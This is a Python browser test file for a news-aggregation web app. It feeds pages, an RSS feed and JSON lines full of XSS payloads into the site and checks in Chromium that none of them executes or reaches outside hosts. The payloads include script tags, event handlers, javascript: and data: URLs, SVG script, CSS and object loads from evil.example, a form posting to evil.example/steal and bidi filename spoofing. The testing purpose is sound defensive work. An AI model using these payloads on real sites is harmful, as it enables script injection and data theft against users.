"""A hostile corpus in a real browser: pages, a feed and JSON lines carrying script, event
handlers, ``javascript:`` and ``data:`` URLs, SVG, CSS and bidi payloads in every field,
and strings too long to fit any column.

Every page of the site that shows them is opened in Debian's Chromium. Every request that
leaves the site is intercepted and counted (it must be 0), any dialog is counted (0), a
console error or a Content-Security-Policy violation fails the test, and no page is wider
than the window. The rendering does not depend on the engine, so this runs on SQLite.
"""

from __future__ import annotations

import json
from types import SimpleNamespace
from urllib.parse import urlsplit

import pytest
from lxml import html as lxml_html

from browser_util import PageProblems, new_context
from conftest import _serve_in_thread
from test_browser import CSP_REPORTER

# One payload of each kind; every field below carries it.
PAYLOAD = (
    '"><script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>'
    '<iframe src="javascript:alert(4)"></iframe><a href="javascript:alert(5)">x</a>'
    "<style>body{background:url(https://evil.example/css)}</style>"
    "<object data=https://evil.example/o></object>{{7*7}}\u202egnp.exe\u202c"
)
LONG = "Unbroken" * 60  # 480 characters with nowhere to break
# Distinct texts, so that dedup keeps every hostile item an article of its own.
TEXTS = [
    "Officials in the coastal province said on Tuesday that the new harbour would open "
    "next spring, after three years of delays caused by storms and a dispute over funding. ",
    "Farmers in the northern valley expect a record apple harvest this autumn, thanks to a "
    "mild winter and late rain that filled the reservoirs above the orchards. ",
    "The city council voted to extend night bus services on weekends, answering a petition "
    "signed by thousands of shift workers who had no way home after midnight. ",
    "A museum reopened its natural history wing with a skeleton of a whale that stranded on "
    "a nearby beach two decades ago, restored by volunteers over many winters. ",
    "Engineers began testing a tidal turbine off the headland, hoping it can power several "
    "hundred homes if the prototype survives the strong currents of the strait. ",
    "Teachers at the rural school started a chess club that now has more members than the "
    "football team, and its best player qualified for the national championship. ",
]
TEXT = TEXTS[0]

HOSTILE_PAGE = f"""<!doctype html>
<html lang="en"><head>
<title>{PAYLOAD} harbour opens</title>
<meta property="og:site_name" content='{PAYLOAD}'>
<meta property="og:title" content='{PAYLOAD} harbour opens'>
<meta property="article:section" content='{PAYLOAD}'>
<meta name="author" content='{PAYLOAD}'>
<meta property="article:published_time" content="2026-10-03T10:00:00Z">
<meta property="og:image" content="https://evil.example/og.png">
<link rel="canonical" href="javascript:alert(6)">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<script src="https://evil.example/x.js"></script>
</head><body onload="alert(7)">
<article><h1>Harbour opens {PAYLOAD}</h1>
<p>{TEXT}<a href="javascript:alert(8)">Read more</a> and
<img src="https://evil.example/t.gif" onerror="alert(9)"></p>
<p style="background:url(https://evil.example/bg)">{TEXT}{TEXT}</p>
<svg><script>alert(10)</script><a xlink:href="javascript:alert(11)"><text>svg</text></a></svg>
<p>{TEXT}<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>
<iframe srcdoc="&lt;script&gt;alert(12)&lt;/script&gt;"></iframe></p>
<p>{TEXT}{LONG}</p>
<form action="https://evil.example/steal"><input name=q><button>Go</button></form>
</article></body></html>
"""


def hostile_feed() -> str:
    items = "".join(
        f"""<item><title>{escape_xml(PAYLOAD)} storm warning {n}</title>
<link>https://feed.example/storm-{n}</link>
<guid>storm-{n}</guid>
<category>{escape_xml(PAYLOAD)}</category>
<author>{escape_xml(PAYLOAD)}</author>
<pubDate>Mon, 0{n} Oct 2026 08:00:00 GMT</pubDate>
<description>{escape_xml(f"<p>{TEXTS[n]}</p><script>alert(13)</script><img src=x onerror=alert(14)><p>Storm {n}: {TEXTS[n]}</p>")}</description>
</item>"""
        for n in range(1, 4)
    )
    return f"""<?xml version="1.0"?><rss version="2.0"><channel>
<title>{escape_xml(PAYLOAD)}</title><link>javascript:alert(15)</link>
<description>hostile</description>{items}</channel></rss>"""


def escape_xml(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


HOSTILE_JSONL = [
    {
        "id": "j1",
        "url": "https://lines.example/a/1",
        "title": f"{PAYLOAD} minister resigns",
        "byline": PAYLOAD,
        "site_name": PAYLOAD,
        "categories": [PAYLOAD],
        "published": "2026-10-04T09:00:00Z",
        "body": f"{PAYLOAD}\n\nThe minister resigned on Monday. {TEXTS[4]}\n\n{TEXTS[4]}",
    },
    {
        "id": "j2",
        "url": "https://lines.example/a/2",
        "title": f"{LONG} headline",
        "byline": LONG,
        "site_name": LONG,
        "categories": [LONG],
        "published": "2026-10-05T09:00:00Z",
        "body": f"Parliament met again on Friday. {TEXTS[5]}\n\n{LONG}{LONG}\n\n{TEXTS[5]}",
    },
]


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    from dateline.enrich.run import enrich_articles
    from dateline.pipeline import ingest_many
    from dateline.settings import load_settings
    from dateline.store.db import Store
    from dateline.store.schema import upgrade
    from dateline.web.app import create_app

    folder = tmp_path_factory.mktemp("hostile")
    corpus = folder / "corpus"
    corpus.mkdir()
    (corpus / "harbour.html").write_text(HOSTILE_PAGE, encoding="utf-8")
    (corpus / "storms.rss").write_text(hostile_feed(), encoding="utf-8")
    (corpus / "lines.jsonl").write_text(
        "\n".join(json.dumps(i) for i in HOSTILE_JSONL) + "\n", encoding="utf-8"
    )
    settings = load_settings(
        environ={
            "DATELINE_DATA_DIR": str(folder),
            "DATELINE_DATABASE_URL": f"sqlite:///{folder / 'dateline.db'}",
            "DATELINE_SITE_CLOCK": "2026-11-01T00:00:00",
        }
    )
    store = Store(settings.resolved_database_url)
    upgrade(store)
    report = ingest_many([str(corpus)], store, settings)
    assert report.ok and len(report.items) == 6, report.failures
    enrich_articles(store, settings)
    server, thread, base = _serve_in_thread(create_app(settings, store))
    yield SimpleNamespace(url=base, store=store)
    server.should_exit = True
    thread.join(timeout=10)
    store.dispose()


def site_paths(base: str) -> list[str]:
    """Every page that shows the hostile text: home, sections, claims, articles, sources,
    entities, search (collected over plain HTTP; rendering each is the browser's job)."""
    import httpx

    seen: list[str] = []
    todo = ["/", "/latest", "/search?q=harbour", "/search?q=alert", "/api/docs"]
    with httpx.Client(base_url=base) as client:
        for category in client.get("/api/v1/categories").json():
            todo.append(f"/c/{category['slug']}")
        while todo:
            path = todo.pop(0)
            if path in seen or len(seen) >= 60:
                continue
            seen.append(path)
            response = client.get(path)
            assert response.status_code == 200, (path, response.status_code)
            if "html" not in response.headers.get("content-type", ""):
                continue
            for href in lxml_html.fromstring(response.text).xpath("//a/@href"):
                parts = urlsplit(href)
                assert parts.scheme in ("", "http", "https"), f"{href!r} on {path}"
                if not parts.netloc and parts.path.startswith(
                    ("/a/", "/c/", "/s/", "/e/", "/source/")
                ):
                    todo.append(parts.path)
    return seen


def test_hostile_pages_render_inert(browser, hostile_site):
    paths = site_paths(hostile_site.url)
    assert sum(p.startswith("/a/") for p in paths) == 6, "\n".join(paths)
    problems = PageProblems()
    outside: list[str] = []
    dialogs: list[str] = []
    context = new_context(browser, base_url=hostile_site.url)
    context.add_init_script(CSP_REPORTER)

    def guard(route):
        if route.request.url.startswith(hostile_site.url):
            route.continue_()
        else:
            outside.append(route.request.url)
            route.abort()

    context.route("**/*", guard)
    page = problems.watch(context.new_page())
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    try:
        for path in paths:
            page.goto(path, wait_until="load")
            page.wait_for_timeout(50)  # let a late handler fire, if one got in
            live = page.evaluate(
                """() => ({
                  scripts: [...document.scripts].filter((s) => s.type !== "application/ld+json"
                      && !s.src.startsWith(location.origin)).length,
                  handlers: [...document.querySelectorAll("*")].filter((el) =>
                      [...el.attributes].some((a) => a.name.startsWith("on"))).length,
                  jsLinks: document.querySelectorAll('[href^="javascript:" i], [src^="javascript:" i], [href^="data:" i]').length,
                  frames: document.querySelectorAll("iframe, object, embed, base, form[action^='http']").length,
                  wide: document.documentElement.scrollWidth - window.innerWidth,
                })"""
            )
            assert live == {"scripts": 0, "handlers": 0, "jsLinks": 0, "frames": 0, "wide": 0}, (
                path,
                live,
            )
        page.set_viewport_size({"width": 375, "height": 800})  # a phone: long strings wrap
        for path in [p for p in paths if p == "/" or p.startswith("/a/")]:
            page.goto(path, wait_until="load")
            wide = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
            assert wide <= 0, (path, wide)
    finally:
        context.close()
    assert outside == [], outside
    assert dialogs == [], dialogs
    problems.assert_clean()


def test_the_guard_catches_the_payloads_when_served_raw(browser):
    """The safety net itself: the same page set raw into a browser fires dialogs and tries
    to reach other hosts, and the checks above would see both."""
    outside: list[str] = []
    dialogs: list[str] = []
    context = new_context(browser)
    context.route("**/*", lambda route: (outside.append(route.request.url), route.abort()))
    page = context.new_page()
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    try:
        page.set_content(HOSTILE_PAGE, wait_until="load")
        page.wait_for_timeout(200)
    finally:
        context.close()
    assert dialogs, "the raw payloads ran no script"
    assert any("evil.example" in url for url in outside), outside
